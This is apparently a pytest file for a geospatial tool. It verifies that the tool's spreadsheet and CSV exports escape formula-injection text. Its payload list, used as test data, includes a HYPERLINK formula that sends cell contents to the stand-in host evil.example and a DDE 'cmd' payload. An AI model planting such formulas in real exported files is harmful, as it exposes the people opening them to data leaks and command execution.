"""Spreadsheet outputs: text from the data never becomes a formula.

Every writer of a ``.xlsx`` or ``.csv`` file is exercised with text that a
spreadsheet would run (``=HYPERLINK(...)``, ``+``, ``-``, ``@``, tab, CR):
the workbook must hold it as text cells (``data_type "s"``, never ``"f"``)
with the exact characters, and the CSV must start such fields with ``'``
(OWASP's CSV-injection guidance), while numbers stay numbers.
"""

from __future__ import annotations

import csv
import dataclasses
import re
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

import zonegeo
from tests._need import need
from zonegeo.cli import cli
from zonegeo.io import sheets as _sheets

#: The payload of the bug report, and one per dangerous first character.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def _formula_cells(path: Path) -> list[str]:
    openpyxl = need("openpyxl")
    wb = openpyxl.load_workbook(path)
    return [
        f"{ws.title}!{c.coordinate}={c.value!r}"
        for ws in wb
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def _text_cells(path: Path) -> list[str]:
    openpyxl = need("openpyxl")
    wb = openpyxl.load_workbook(path)
    return [
        c.value
        for ws in wb
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "s" and isinstance(c.value, str)
    ]


def _csv_fields(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [field for row in csv.reader(fh) for field in row]


# ------------------------------------------------------------------ the helper


def test_escape_rules() -> None:
    for text in PAYLOADS:
        assert _sheets.escape_text(text) == "'" + text
    assert _sheets.escape_text("Turkistan Cement LLP") == "Turkistan Cement LLP"
    assert _sheets.escape_text("'quoted'") == "'quoted'"
    assert _sheets.escape_text("'=1") == "''=1"  # so the escape can be undone
    assert _sheets.escape_text("") == ""
    assert _sheets.unescape_text("'-5") == "-5"
    assert _sheets.unescape_text("''=1") == "'=1"
    assert _sheets.unescape_text("'quoted'") == "'quoted'"


@given(st.text())
def test_escape_round_trip_and_safety(text: str) -> None:
    out = _sheets.escape_text(text)
    assert _sheets.unescape_text(out) == text
    assert not out.startswith(_sheets.FORMULA_PREFIXES)


def test_csv_frame_touches_text_only() -> None:
    table = pd.DataFrame(
        {
            "investor": pd.array([HYPERLINK, None, "ACME"], dtype="string"),
            "note": ["-5", 3, None],  # object column: a number stays a number
            "dist_m": [-5.0, 0.0, float("nan")],
            "jobs": pd.array([-1, 2, None], dtype="Int64"),
            "=col": [1, 2, 3],
        }
    )
    out = _sheets.csv_frame(table)
    assert out["investor"].tolist()[0] == "'" + HYPERLINK
    assert out["investor"].dtype == "string" and out["investor"].isna().tolist() == [
        False,
        True,
        False,
    ]
    assert out["note"].tolist()[:2] == ["'-5", 3]
    pd.testing.assert_series_equal(out["dist_m"], table["dist_m"])
    pd.testing.assert_series_equal(out["jobs"], table["jobs"])
    assert list(out.columns)[-1] == "'=col"
    assert table["investor"].iloc[0] == HYPERLINK  # input untouched


def test_write_xlsx_keeps_text_as_text(tmp_path: Path) -> None:
    table = pd.DataFrame(
        {"investor": PAYLOADS, "dist_m": [-5.0, 1, 2, 3, 4, 5.5]}, dtype=object
    )
    table["dist_m"] = table["dist_m"].astype(float)
    out = tmp_path / "t.xlsx"
    _sheets.write_xlsx({"sheet": table}, out)
    assert _formula_cells(out) == []
    openpyxl = need("openpyxl")
    ws = openpyxl.load_workbook(out)["sheet"]
    # XML stores a carriage return as a line feed (XML 1.0, 2.11); all else exact.
    assert [c.value for c in ws["A"]][1:] == [p.replace("\r", "\n") for p in PAYLOADS]
    assert [c.value for c in ws["B"]][1:] == [-5.0, 1.0, 2.0, 3.0, 4.0, 5.5]
    assert {c.data_type for c in ws["B"][1:]} == {"n"}


def test_write_layer_csv_round_trips_through_read_plots(tmp_path, tiny_plots) -> None:
    plots = tiny_plots.copy()
    plots["investor"] = [HYPERLINK, "-"]
    plots["project"] = ["'=quoted", "@home"]
    out = zonegeo.write_layer(plots, tmp_path / "plots.csv")
    fields = _csv_fields(out)
    assert "'" + HYPERLINK in fields and "'-" in fields
    assert "''=quoted" in fields and "'@home" in fields
    assert HYPERLINK not in fields
    back = zonegeo.read_plots(out, crs=plots.crs)
    assert back["investor"].tolist() == [HYPERLINK, "-"]
    assert back["project"].tolist() == ["'=quoted", "@home"]


# ------------------------------------------------------- every writer, end to end


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo dataset with formula text in investors, settlements and infra ids."""
    ds = zonegeo.load_demo()
    plots = ds.plots.copy()
    has = plots["investor"].notna()
    plots.loc[has, "investor"] = HYPERLINK
    plots.loc[has, "project"] = "-5"
    settlements = ds.settlements.copy()
    settlements["name"] = "@" + settlements["name"].astype(str)
    infra = ds.infrastructure.copy()
    infra["infra_id"] = "=" + infra["infra_id"].astype(str)
    folder = tmp_path_factory.mktemp("poisoned") / "data"
    zonegeo.write_dataset(
        dataclasses.replace(
            ds, plots=plots, settlements=settlements, infrastructure=infra
        ),
        folder,
    )
    return folder


@pytest.fixture(scope="module")
def scenario(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("scenario") / "small.toml"
    path.write_text(
        'district = "Ordabasy"\narea_ha = 5\nmethod = "wsm"\n'
        "[candidates]\nmax_candidates = 40\n"
        '[[criteria]]\ncolumn = "dist_gas_m"\nbetter = "lower"\nweight = 2\n'
        '[[criteria]]\ncolumn = "dist_settlement_m"\nbetter = "lower"\n',
        encoding="utf-8",
    )
    return path


def _invoke(*args: object) -> None:
    result = CliRunner().invoke(cli, [str(a) for a in args])
    assert result.exit_code == 0, result.output


def test_report_xlsx_has_no_formula(poisoned, tmp_path) -> None:
    out = tmp_path / "kpis.xlsx"
    _invoke("report", "--data", poisoned, "-o", out, "--as-of", "2025-02-01")
    # the only formulas are zonegeo's own: the Charts sheet's investment by zone
    # kind, SUMIF over the Zone KPIs sheet (zonegeo.maps.charts.add_xlsx_charts)
    own = re.compile(r"Charts!C\d+='=IF\(COUNTIFS\(\\'Zone KPIs\\'!")
    formulas = _formula_cells(out)
    assert len(formulas) == 4 and all(own.match(f) for f in formulas), formulas
    texts = _text_cells(out)
    assert texts.count(HYPERLINK) >= 1 and "-5" in texts
    idle = pd.read_excel(out, sheet_name="Idle plots")
    assert (idle["investor"] == HYPERLINK).all()
    assert pd.api.types.is_numeric_dtype(idle["days_overdue"])


def test_report_csv_is_neutralised(poisoned, tmp_path) -> None:
    _invoke("report", "--data", poisoned, "-o", tmp_path / "kpis.csv",
            "--as-of", "2025-02-01")  # fmt: skip
    folder = tmp_path / "kpis"
    fields = _csv_fields(folder / "idle_plots.csv")
    assert "'" + HYPERLINK in fields and "'-5" in fields
    assert not [f for f in fields if f.startswith(_sheets.FORMULA_PREFIXES)]
    idle = pd.read_csv(folder / "idle_plots.csv")
    assert pd.api.types.is_numeric_dtype(idle["days_overdue"])
    assert pd.api.types.is_numeric_dtype(idle["area_ha"])
    for path in folder.glob("*.csv"):
        assert not [f for f in _csv_fields(path) if f.startswith(("=", "+", "@"))]


def test_rank_xlsx_has_no_formula(poisoned, scenario, tmp_path) -> None:
    out = tmp_path / "ranking.xlsx"
    _invoke("rank", "--scenario", scenario, "--data", poisoned, "-o", out,
            "--top", "0")  # fmt: skip
    assert _formula_cells(out) == []
    table = pd.read_excel(out, sheet_name="ranking")
    assert table["nearest_gas_id"].str.startswith("=GAS-").all()
    assert table["nearest_settlement"].str.startswith("@").all()
    assert pd.api.types.is_numeric_dtype(table["dist_gas_m"])
    about = pd.read_excel(out, sheet_name="about")
    assert "weight.dist_gas_m (lower is better)" in about["item"].tolist()


def test_rank_csv_is_neutralised(poisoned, scenario, tmp_path) -> None:
    out = tmp_path / "ranking.csv"
    _invoke("rank", "--scenario", scenario, "--data", poisoned, "-o", out,
            "--top", "0")  # fmt: skip
    assert not [f for f in _csv_fields(out) if f.startswith(_sheets.FORMULA_PREFIXES)]
    table = pd.read_csv(out)
    assert table["nearest_gas_id"].str.startswith("'=GAS-").all()
    assert table["nearest_settlement"].str.startswith("'@").all()
    assert pd.api.types.is_numeric_dtype(table["dist_gas_m"])
    assert pd.api.types.is_numeric_dtype(table["score"])


def test_distances_csv_is_neutralised(tmp_path, tiny_plots, tiny_infrastructure):
    plots = tiny_plots.copy()
    plots["investor"] = ["@evil", HYPERLINK]
    infra = tiny_infrastructure.copy()
    infra["infra_id"] = ["-G1", "+E1", "=W1"]
    plots.to_file(tmp_path / "plots.gpkg")
    infra.to_file(tmp_path / "infra.gpkg")
    out = tmp_path / "d.csv"
    _invoke("distances", tmp_path / "plots.gpkg", tmp_path / "infra.gpkg", "-o", out)
    table = pd.read_csv(out)
    assert table["investor"].tolist() == ["'@evil", "'" + HYPERLINK]
    assert table["nearest_gas_id"].tolist() == ["'-G1", "'-G1"]
    assert table["dist_gas_m"].tolist() == pytest.approx([250.0, 1000.0], rel=1e-3)
    back = zonegeo.read_layer(out, "plots", crs=tiny_plots.crs)
    assert back["investor"].tolist() == ["@evil", HYPERLINK]
    assert isinstance(back, gpd.GeoDataFrame)
